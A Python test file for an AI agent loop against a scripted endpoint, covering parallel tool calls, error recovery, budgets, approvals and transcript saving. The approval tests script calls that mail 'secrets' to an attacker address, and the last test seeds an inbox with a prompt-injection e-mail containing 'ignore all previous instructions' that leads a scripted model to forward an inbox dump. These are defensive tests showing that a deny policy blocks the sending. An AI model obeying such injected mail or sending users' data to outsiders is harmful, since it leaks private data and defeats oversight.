"""The agent loop against a scripted OpenAI-compatible endpoint on loopback: tools, recovery, budgets, approvals."""

from __future__ import annotations

import asyncio
import json
import threading
import time

import openai
import pytest
from scripted_endpoint import ScriptedEndpoint, answer, calls

from openk2.agent import Agent, Budget, Transcript, approve_all, deny_all, function_tool


def make_agent(endpoint: ScriptedEndpoint, tools, **kwargs) -> Agent:
    client = openai.AsyncOpenAI(base_url=endpoint.base_url, api_key="test", max_retries=0)
    return Agent(client, "scripted", tools, **kwargs)


def run(endpoint: ScriptedEndpoint, tools, prompt="go", **kwargs) -> tuple[Transcript, list]:
    events = []
    transcript = asyncio.run(make_agent(endpoint, tools, **kwargs).run(prompt, on_event=events.append))
    return transcript, events


def sleepy(name: str, seconds: float) -> str:
    """Wait, then say who waited.

    Args:
        name: who waits.
        seconds: how long.
    """
    started = time.monotonic()
    time.sleep(seconds)
    SPANS[name] = (started, time.monotonic())
    return f"{name} waited {seconds}"


SPANS: dict[str, tuple[float, float]] = {}  # when each sleepy call ran


def add(a: int, b: int) -> int:
    return a + b


def explode(reason: str) -> str:
    raise RuntimeError(reason)


def tool_messages(transcript: Transcript) -> list[dict]:
    return [m for m in transcript.messages if m["role"] == "tool"]


@pytest.mark.parametrize("stream", [True, False])
def test_parallel_calls_run_concurrently_and_results_keep_call_order(stream):
    script = [calls(("sleepy", {"name": "slow", "seconds": 0.4}), ("sleepy", {"name": "fast", "seconds": 0.05}),
                    content="Let me wait twice.", reasoning="Two waits, in parallel."),
              answer("Both waited.")]
    SPANS.clear()
    with ScriptedEndpoint(script) as endpoint:
        transcript, events = run(endpoint, [function_tool(sleepy)], stream=stream)
    assert transcript.stop_reason == "answer" and transcript.answer == "Both waited."
    # The two calls overlap in time (a wall-clock bound instead failed whenever the machine was busy).
    (slow_start, slow_end), (fast_start, fast_end) = SPANS["slow"], SPANS["fast"]
    assert fast_start < slow_end and slow_start < fast_end, "the two calls should overlap"
    roles = [m["role"] for m in transcript.messages]
    assert roles == ["user", "assistant", "tool", "tool", "assistant"]
    first = transcript.messages[1]
    assert first["content"] == "Let me wait twice." and first["reasoning_content"] == "Two waits, in parallel."
    assert [c["function"]["name"] for c in first["tool_calls"]] == ["sleepy", "sleepy"]
    results = tool_messages(transcript)
    assert [r["content"] for r in results] == ["slow waited 0.4", "fast waited 0.05"]
    assert [r["tool_call_id"] for r in results] == [c["id"] for c in first["tool_calls"]]
    # The second request carries the whole conversation and the tool declarations, as the model must see them.
    assert endpoint.requests[1]["messages"] == transcript.messages[:-1]
    assert endpoint.requests[0]["tools"][0]["function"]["name"] == "sleepy"
    assert transcript.turns == 2 and transcript.usage.total_tokens == 30
    kinds = [e.kind for e in events]
    assert kinds[-1] == "final" and events[-1].text == "Both waited."
    assert kinds.count("tool_call") == 2 and kinds.count("tool_result") == 2 and kinds.count("message") == 2
    if stream:  # text arrives in pieces before the whole message
        assert "".join(e.text for e in events if e.kind == "text") == "Let me wait twice.Both waited."
        assert kinds.index("text") < kinds.index("message")


def test_bad_calls_come_back_as_errors_and_the_loop_recovers():
    script = [calls(("add", '{"a": 1, "b": '),                # broken JSON
                    ("add", {"a": "one", "b": 2, "c": 3}),     # wrong type and an unknown argument
                    ("subtract", {"a": 1, "b": 2}),             # no such tool
                    ("explode", {"reason": "disk on fire"}),    # the tool raises
                    ("add", {"a": 2, "b": 3})),                 # and one good call among them
              calls(("add", {"a": 1, "b": 2})),
              answer("1 + 2 = 3")]
    with ScriptedEndpoint(script) as endpoint:
        transcript, events = run(endpoint, [function_tool(add), function_tool(explode)])
    assert transcript.stop_reason == "answer" and transcript.answer == "1 + 2 = 3"
    contents = [m["content"] for m in tool_messages(transcript)]
    assert "not valid JSON" in contents[0]
    assert "invalid arguments for add" in contents[1] and "a: Input should be a valid integer" in contents[1]
    assert "c: Extra inputs are not permitted" in contents[1]
    assert "unknown tool 'subtract'" in contents[2] and "add, explode" in contents[2]
    assert contents[3] == "Error: RuntimeError: disk on fire"
    assert contents[4:] == ["5", "3"]
    flags = [e.result.is_error for e in events if e.kind == "tool_result"]
    assert flags == [True, True, True, True, False, False]
    # The model saw every error before its next turn.
    assert [m["content"] for m in endpoint.requests[1]["messages"] if m["role"] == "tool"] == contents[:5]


def test_max_turns_stops_a_runaway_loop():
    with ScriptedEndpoint(lambda request: calls(("add", {"a": 1, "b": 1}))) as endpoint:
        transcript, events = run(endpoint, [function_tool(add)], budget=Budget(max_turns=3))
    assert transcript.stop_reason == "max_turns" and transcript.answer is None
    assert len(endpoint.requests) == 3 and transcript.turns == 3
    assert transcript.messages[-1]["role"] == "tool"  # every call still has its result
    assert events[-1].kind == "final" and "max_turns" in events[-1].text


def test_max_tokens_counts_what_the_endpoint_reports():
    with ScriptedEndpoint(lambda request: calls(("add", {"a": 1, "b": 1}), usage=(100, 50))) as endpoint:
        transcript, _ = run(endpoint, [function_tool(add)], budget=Budget(max_turns=None, max_tokens=400))
    assert transcript.stop_reason == "max_tokens" and len(endpoint.requests) == 3
    assert transcript.usage.prompt_tokens == 300 and transcript.usage.completion_tokens == 150


def test_max_seconds_interrupts_a_slow_stream_and_a_slow_tool():
    slow_stream = [answer("x" * 200, delay=0.05)]  # ~30 chunks, 1.5 s in all
    with ScriptedEndpoint(slow_stream) as endpoint:
        start = time.monotonic()
        transcript, _ = run(endpoint, [], budget=Budget(max_seconds=0.3))
    # Sooner than the stream could have ended by itself (its sleeps alone take 1.5 s), however busy the machine.
    assert transcript.stop_reason == "max_seconds" and time.monotonic() - start < 1.5
    assert transcript.messages == [{"role": "user", "content": "go"}]  # the unfinished reply is dropped

    with ScriptedEndpoint([calls(("sleepy", {"name": "n", "seconds": 0.6}), ("add", {"a": 1, "b": 2}))]) as endpoint:
        transcript, events = run(endpoint, [function_tool(sleepy), function_tool(add)], budget=Budget(max_seconds=0.3))
    # (asyncio.run itself then waits for the abandoned worker thread; the run was over long before.)
    assert transcript.stop_reason == "max_seconds" and transcript.seconds < 0.6
    assert [m["content"] for m in tool_messages(transcript)] == ["Error: cancelled: the run's time budget ran out", "3"]


def test_side_effects_need_approval_and_denials_reach_the_model():
    sent = []

    def send_email(to: str, body: str) -> str:
        sent.append(to)
        return "sent"

    tools = [function_tool(send_email, side_effect=True), function_tool(add)]
    script = [calls(("send_email", {"to": "attacker@evil.example", "body": "secrets"}), ("add", {"a": 1, "b": 1})),
              answer("I did not send it.")]
    with ScriptedEndpoint(script) as endpoint:
        transcript, events = run(endpoint, tools, approve=deny_all)
    assert sent == []
    denied, added = tool_messages(transcript)
    assert denied["content"].startswith("Denied: the user did not approve this call to send_email")
    assert added["content"] == "2"  # tools without side effects need no approval
    assert denied in endpoint.requests[1]["messages"]

    asked = []

    async def only_colleagues(call):
        asked.append(call.name)
        return json.loads(call.arguments)["to"].endswith("@northwind.example")

    script = [calls(("send_email", {"to": "anna@northwind.example", "body": "hi"}),
                    ("send_email", {"to": "attacker@evil.example", "body": "secrets"})), answer("done")]
    with ScriptedEndpoint(script) as endpoint:
        transcript, _ = run(endpoint, tools, approve=only_colleagues)
    assert sent == ["anna@northwind.example"] and asked == ["send_email", "send_email"]
    assert [m["content"][:6] for m in tool_messages(transcript)] == ["sent", "Denied"]


def test_approvals_are_asked_one_at_a_time():
    active, overlaps = [0], []
    lock = threading.Lock()

    async def slow_yes(call):
        with lock:
            active[0] += 1
            overlaps.append(active[0])
        await asyncio.sleep(0.05)
        with lock:
            active[0] -= 1
        return True

    tools = [function_tool(add, side_effect=True)]
    script = [calls(*[("add", {"a": i, "b": i}) for i in range(4)]), answer("ok")]
    with ScriptedEndpoint(script) as endpoint:
        transcript, _ = run(endpoint, tools, approve=slow_yes)
    assert max(overlaps) == 1 and [m["content"] for m in tool_messages(transcript)] == ["0", "2", "4", "6"]


def test_transcript_saves_as_json(tmp_path):
    with ScriptedEndpoint([calls(("add", {"a": 2, "b": 2})), answer("4")]) as endpoint:
        transcript, _ = run(endpoint, [function_tool(add)], prompt=[{"role": "system", "content": "Be brief."},
                                                                    {"role": "user", "content": "2+2?"}])
    path = tmp_path / "run.json"
    transcript.save(path)
    saved = json.loads(path.read_text())
    assert saved["messages"] == transcript.messages and saved["messages"][0]["role"] == "system"
    assert saved["tools"][0]["function"]["name"] == "add" and saved["stop_reason"] == "answer"
    assert saved["usage"] == {"prompt_tokens": 20, "completion_tokens": 10, "total_tokens": 30}


def test_endpoint_errors_propagate():
    with ScriptedEndpoint([]) as endpoint, pytest.raises(openai.BadRequestError, match="script exhausted"):
        run(endpoint, [])


def test_duplicate_tool_names_are_refused():
    with pytest.raises(ValueError, match="two tools are named 'add'"):
        Agent(None, "m", [function_tool(add), function_tool(add)], approve=approve_all)


def test_prompt_injection_in_an_email_cannot_send_mail_without_approval():
    """The seeded inbox holds an e-mail telling the assistant to forward mail to an outsider. A model that
    obeys it still cannot act: sending is side-effecting, so the policy (here: deny) has the last word."""
    from openk2.agent.apps import World

    world = World(apps=["email"], seed=0)
    [injection] = world.apps["email"].search_emails(query="mailbox audit")
    before = world.snapshot()
    script = [calls(("read_email", {"email_id": injection["id"]})),
              calls(("send_email", {"to": ["audit@northwind-support.example"], "subject": "Fwd", "body": "inbox dump"})),
              answer("Done.")]
    with ScriptedEndpoint(script) as endpoint:
        transcript, _ = run(endpoint, world.tools(), prompt="Summarise my inbox", approve=deny_all)
    assert "ignore all previous instructions" in tool_messages(transcript)[0]["content"]
    assert tool_messages(transcript)[1]["content"].startswith("Denied")
    after = world.snapshot()
    assert [e for e in after["emails"] if e["folder"] == "sent"] == [e for e in before["emails"] if e["folder"] == "sent"]
